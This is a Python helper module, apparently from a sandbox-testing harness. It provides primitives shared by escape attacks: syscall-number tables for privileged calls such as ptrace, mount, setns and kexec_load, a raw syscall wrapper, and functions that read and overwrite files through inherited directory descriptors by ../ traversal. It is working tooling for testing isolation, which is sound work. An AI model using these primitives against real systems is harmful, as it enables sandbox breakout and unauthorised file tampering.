"""What attacks share. Every name here is known to the Python that an attack sends."""

import ctypes
import errno
import os
import platform
import signal
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

_INTEL = {
    "add_key": 248, "bpf": 321, "chroot": 161, "clock_settime": 227, "clone": 56, "clone3": 435, "fanotify_init": 300,
    "finit_module": 313, "fsopen": 430, "init_module": 175, "inotify_init1": 294, "io_uring_setup": 425, "kcmp": 312, "kexec_load": 246, "keyctl": 250,
    "landlock_create_ruleset": 444, "memfd_create": 319, "memfd_secret": 447, "mincore": 27, "modify_ldt": 154, "mount": 165, "mq_open": 240,
    "msgget": 68, "name_to_handle_at": 303, "open_by_handle_at": 304, "open_tree": 428, "perf_event_open": 298, "personality": 135,
    "pidfd_getfd": 438, "pivot_root": 155, "process_madvise": 440, "process_vm_readv": 310, "ptrace": 101, "quotactl": 179,
    "reboot": 169, "sched_setattr": 314, "sched_setscheduler": 144, "semget": 64, "sethostname": 170, "setns": 308, "shmat": 30,
    "shmget": 29, "splice": 275, "swapon": 167, "syslog": 103, "umount2": 166, "unshare": 272, "userfaultfd": 323,
}  # fmt: skip
_ARM = {
    "add_key": 217, "bpf": 280, "chroot": 51, "clock_settime": 112, "clone": 220, "clone3": 435, "fanotify_init": 262,
    "finit_module": 273, "fsopen": 430, "init_module": 105, "inotify_init1": 26, "io_uring_setup": 425, "kcmp": 272, "kexec_load": 104, "keyctl": 219,
    "landlock_create_ruleset": 444, "memfd_create": 279, "memfd_secret": 447, "mincore": 232, "mount": 40, "mq_open": 180, "msgget": 186,
    "name_to_handle_at": 264, "open_by_handle_at": 265, "open_tree": 428, "perf_event_open": 241, "personality": 92,
    "pidfd_getfd": 438, "pivot_root": 41, "process_madvise": 440, "process_vm_readv": 270, "ptrace": 117, "quotactl": 60,
    "reboot": 142, "sched_setattr": 274, "sched_setscheduler": 119, "semget": 190, "sethostname": 161, "setns": 268, "shmat": 196,
    "shmget": 194, "splice": 76, "swapon": 224, "syslog": 116, "umount2": 39, "unshare": 97, "userfaultfd": 282,
}  # fmt: skip
is_intel = platform.machine() == "x86_64"
_NUMBERS = _INTEL if is_intel else _ARM


def name_of(number):
    return errno.errorcode.get(number, str(number))


def call(name, *arguments):
    """A system call by name, past every wrapper. Its result, or the name of the error."""
    plain = [ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in arguments]
    result = libc.syscall(ctypes.c_long(_NUMBERS[name]), *plain)
    return result if result != -1 else name_of(ctypes.get_errno())


def outcome(action):
    """What an action returned as text, after `done `, or the error that the machine answered. A mistake in the attack is raised."""
    try:
        return f"done {action()}"
    except OSError as error:
        return name_of(error.errno)
    except MemoryError:
        return "MemoryError"


def in_child(action, seconds=30):
    """
    Runs an action in a child, because it changes or ends its process. What it returns as text, or how the child ended.
    A child that is not done in time shows nothing: it is killed, and that is raised.
    """
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writing, str(action()).encode()[:4000])
        except BaseException as error:
            os.write(writing, repr(error).encode()[:4000])
        os._exit(0)
    os.close(writing)
    until = time.monotonic() + seconds
    status = None
    while status is None and time.monotonic() < until:
        ended, number = os.waitpid(child, os.WNOHANG)
        status = number if ended else time.sleep(0.01)
    if status is None:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        raise TimeoutError(f"not done after {seconds} s")
    os.set_blocking(reading, False)
    try:
        said = os.read(reading, 4096).decode()
    except BlockingIOError:
        said = ""
    os.close(reading)
    if said:
        return said
    return f"ended by {signal.Signals(os.WTERMSIG(status)).name}" if os.WIFSIGNALED(status) else f"ended with {os.WEXITSTATUS(status)}"


def inherited_folders():
    """Numbers of descriptors of folders, which nobody here opened."""
    import stat

    found = []
    for number in range(256):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def places_below(path):
    """What a file with this absolute path may be called from a folder somewhere above or beside it."""
    parts = path.strip("/").split("/")
    return [up + "/".join(parts[start:]) for up in ("", "../", "../../") for start in range(len(parts))]


def read_anywhere(path):
    """The content of a file by its absolute path, in our root or by way of any folder that a descriptor leads to."""

    def read(place, folder=None):
        opened = os.open(place, os.O_RDONLY, dir_fd=folder)
        try:
            return os.read(opened, 10000)
        finally:
            os.close(opened)

    tries = [outcome(lambda: read(path))]
    for folder in inherited_folders():
        ways = [outcome(lambda: read(place, folder)) for place in places_below(path)]
        tries.append(next((way for way in ways if way.startswith("done")), ways[0]))
    return tries


def write_anywhere(path, text):
    """As `read_anywhere`, writing over the beginning."""

    def write(place, folder=None):
        opened = os.open(place, os.O_WRONLY, dir_fd=folder)
        try:
            return os.write(opened, text)
        finally:
            os.close(opened)

    tries = [outcome(lambda: write(path))]
    for folder in inherited_folders():
        tries += [way for place in places_below(path) if (way := outcome(lambda: write(place, folder))).startswith("done")]
    return tries


def memory_around(address, reach):
    """The readable memory of this process near an address: the kernel refuses pages that are not there, without a signal."""
    reading, writing = os.pipe()
    os.set_blocking(reading, False)
    for place in range((address - reach) & ~4095, address + reach, 4096):
        if libc.write(writing, ctypes.c_void_p(place), ctypes.c_size_t(4096)) > 0:
            yield os.read(reading, 4096)
    os.close(reading)
    os.close(writing)


def take_name():
    """By which the judge's side finds this process, and what it forks, among all processes of the machine."""
    with open("/app/name.txt") as file:
        libc.prctl(15, file.read().strip().encode(), 0, 0, 0)
